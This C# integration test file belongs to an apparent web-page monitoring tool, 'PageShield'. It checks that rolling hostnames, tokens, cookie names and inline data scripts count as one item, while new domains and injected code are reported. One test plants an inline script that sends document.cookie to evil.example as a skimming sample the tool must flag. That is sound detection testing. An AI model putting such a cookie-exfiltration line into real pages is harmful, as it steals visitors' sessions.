using Microsoft.EntityFrameworkCore;
using PageShield.Changes;
using PageShield.Crawls;
using PageShield.Crawls.Captures;
using PageShield.Inventory.Scripts;
using static PageShield.IntegrationTests.Inventory.Captures;

namespace PageShield.IntegrationTests.Changes;

/// <summary>What differs on every visit is one thing in the inventory, and no news.</summary>
public sealed class NoiseTests
{
    private const string Home = "https://shop.example/";
    private const string Library = "window.serve=function(slot){return document.getElementById('slot-'+slot)};";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Hosts_that_a_vendor_makes_up_are_one_group(Provider provider)
    {
        await using var site = await WatchedSite.CreateAsync(provider);
        await site.CrawlAsync(Visit("edge1", "7xqbacjqld8v9vmxj", "5127406"));

        var changes = await site.CrawlAsync(Visit("edge2", "f3dv65m2ltbr7jpg", "3359016"));

        Assert.Empty(changes);
        await using var database = site.Open();
        var script = Assert.Single(await database.Scripts.ToListAsync(Cancel));
        Assert.Equal(("https://edge{n}.ads.example/serve.js", "edge2.ads.example", "https://edge2.ads.example/serve.js"),
            (script.UrlTemplate, script.Host, script.Url));
        Assert.Equal(["https://{id}.fls.example/", "https://{token}.track.example/clear.png"],
            (await database.Connections.Select(row => row.UrlTemplate).ToListAsync(Cancel)).Order(StringComparer.Ordinal));

        static Capture Visit(string edge, string token, string account) => Of(Home, (File($"https://{edge}.ads.example/serve.js"), Library)) with
        {
            Connections =
                [To($"https://{token}.track.example/clear.png", ConnectionType.Image), To($"https://{account}.fls.example/", ConnectionType.Iframe)],
            Frames = [new CapturedFrame($"https://{account}.fls.example/", Home, false)],
        };
    }

    [Fact]
    public async Task A_domain_with_many_hosts_makes_them_up_whatever_they_look_like_and_another_domain_is_news()
    {
        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(
            Of(Home) with
            {
                Connections =
            [.. new[] { "brave", "calm", "dark", "easy", "fair", "good", "hard", "idle", "just", "kind", "late",
            "mild" }.Select(word => To($"https://{word}.pool.example/p", ConnectionType.Fetch))]
            });

        var changes =
            await site.CrawlAsync(
            Of(Home) with
            {
                Connections =
            [To("https://glad.pool.example/p", ConnectionType.Fetch), To("https://glad.evil.example/p", ConnectionType.Fetch)]
            });

        Assert.Equal("glad.evil.example", Assert.Single(changes).Subject);
    }

    [Fact]
    public async Task A_script_that_was_known_by_one_host_goes_on_as_the_group()
    {
        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home, (File("https://edge1.ads.example/serve.js"), Library)));
        await using (var database = site.Open())
        {
            // As an earlier version of the program stored it.
            var script = await database.Scripts.SingleAsync(Cancel);
            (script.UrlTemplate, script.ReportTemplate) = ("https://edge1.ads.example/serve.js", "https://edge1.ads.example/serve.js");
            script.Identity = ScriptIdentity.OfUrl(ScriptKind.External, script.UrlTemplate);
            await database.SaveChangesAsync(Cancel);
        }

        Assert.Empty(await site.CrawlAsync(Of(Home, (File("https://edge1.ads.example/serve.js"), Library))));
        Assert.Empty(await site.CrawlAsync(Of(Home, (File("https://edge2.ads.example/serve.js"), Library))));
        Assert.Equal(1, (await site.ScriptAsync("https://edge{n}.ads.example/serve.js")).VersionCount);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Inline_texts_that_only_hand_values_on_are_one_script_however_many_there_are(Provider provider)
    {
        await using var site = await WatchedSite.CreateAsync(provider);
        await site.CrawlAsync(Of(Home, Flight(1), Flight(2)));

        Assert.All(await site.CrawlAsync(Of(Home, Flight(3), Flight(4), Flight(5))), change => Assert.Equal(ChangeClass.Data, change.Class));
        Assert.Empty(await site.CrawlAsync(Of(Home, Flight(6))));
        await using (var database = site.Open())
            Assert.Equal(ScriptVariation.Generated, (await database.Scripts.SingleAsync(Cancel)).Variation);

        var attack =
            await site.CrawlAsync(
            Of(Home, Flight(7), (Inline(Home, "script:nth(2)"), "self.__next_f.push([8,'x']);fetch('https://evil.example/?'+document.cookie)")));
        Assert.Contains(attack, change => change.Class >= ChangeClass.Code);

        static (CapturedScript, string) Flight(int number) =>
            (Inline(Home, $"script:nth({number})"),
            $"self.__next_f.push([{number},\"{new string('x', number)}\"{(number % 2 == 0 ? ",{a:1}" : "")}])");
    }

    [Fact]
    public async Task A_cookie_with_another_name_on_each_visit_is_one_cookie_and_a_name_that_stays_is_kept()
    {
        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Visit("sess_43e02e560b5e", "_ga_7F3Q1796058"));

        Assert.Empty(await site.CrawlAsync(Visit("sess_6c8209c845cb", "_ga_7F3Q1796058")));
        Assert.Empty(await site.CrawlAsync(Visit("sess_5edf0528d88b", "_ga_7F3Q1796058")));
        Assert.Single(await site.CrawlAsync(Visit("sess_81ce0310e843", "_ga_7F3Q1796058", "other")));

        await using var database = site.Open();
        Assert.Equal(["_ga_7F3Q1796058", "other", "sess_{hash}"],
            (await database.Cookies.Select(cookie => cookie.Name).ToListAsync(Cancel)).Order(StringComparer.Ordinal));

        static Capture Visit(params string[] names) =>
            Of(Home) with { Cookies = [.. names.Select(name => new CapturedCookie { Name = name, Domain = "shop.example", Path = "/" })] };
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task An_address_with_other_values_on_each_visit_is_one_script_and_a_second_one_beside_it_is_news(Provider provider)
    {
        await using var site = await WatchedSite.CreateAsync(provider);
        await site.CrawlAsync(Visit(Call("7f3a9c21"), Unloaded("815426955118")));

        Assert.Empty(await site.CrawlAsync(Visit(Call("0badc0de"), Unloaded("060138684199"))));
        Assert.Empty(await site.CrawlAsync(Visit(Call("91e2d4a7"), Unloaded("006651369239"))));
        Assert.Equal(
            ChangeKind.ScriptAdded, Assert.Single(await site.CrawlAsync(Visit(Call("91e2d4a7"), Call("account-x"), Unloaded("006651369239")))).Kind);

        // another account is another script
        Assert.Equal(ChangeKind.ScriptAdded, (await site.CrawlAsync(Visit(Call("91e2d4a7"), Call("account-y"), Unloaded("006651369239"))))[0].Kind);

        static Capture Visit(params (CapturedScript Script, string? Text)[] scripts)
        {
            // not null: filtered
            var loaded = Of(Home, [.. scripts.Where(script => script.Text is not null).Select(script => (script.Script, script.Text!))]);
            return loaded with
            {
                Scripts =
                [.. loaded.Scripts,
                .. scripts.Where(script => script.Text is null).Select((script, number) => script.Script with { Id = 50 + number })]
            };
        }

        static (CapturedScript, string?) Call(string value) => (File($"https://chat.example/call?site=7&visit={value}"), "lp.go(1);");
        static (CapturedScript, string?) Unloaded(string value) =>
            (File($"https://chat.example/knock?visit={value}") with { Ran = false, NotRunReason = NotRunReason.Network }, null);
    }

    [Fact]
    public async Task A_file_that_had_another_kind_of_name_once_is_the_same_when_it_is_back()
    {
        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
        const string Text = "window.recommend={for:function(user){return user.last||NUMBER}};document.body.dataset.recommend='on';";
        await site.CrawlAsync(Visit("3f2a9c77ab01", 1));

        foreach (var (name, number) in new[] { ("plainname", 2), ("91e2d4a7bc02", 3), ("othername", 4), ("0badc0de1234", 5) })
            Assert.All(await site.CrawlAsync(Visit(name, number)), change => Assert.Equal(ChangeKind.ScriptChanged, change.Kind));

        static Capture Visit(string name, int number) =>
            Of(Home, (File($"https://cdn.example/{name}/1.js"), Text.Replace("NUMBER", $"{number}", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task What_could_not_be_loaded_is_not_said_to_run()
    {
        await using var site = await WatchedSite.CreateAsync(Provider.Sqlite);
        await site.CrawlAsync(Of(Home));

        var changes =
            await site.CrawlAsync(
            Of(Home) with { Scripts = [File("https://cdn.example/reviews.js") with { Id = 1, Ran = false, NotRunReason = NotRunReason.Network }] });

        Assert.Contains(changes,
            change => change.Kind == ChangeKind.ScriptAdded
            && change.Summary == "https://shop.example/ requests a new script file from cdn.example, which could not be loaded.");
    }

    private static CapturedConnection To(string url, ConnectionType type) =>
        new() { Url = url, Host = new Uri(url).Host, Method = "GET", Type = type, Initiator = "" };
}
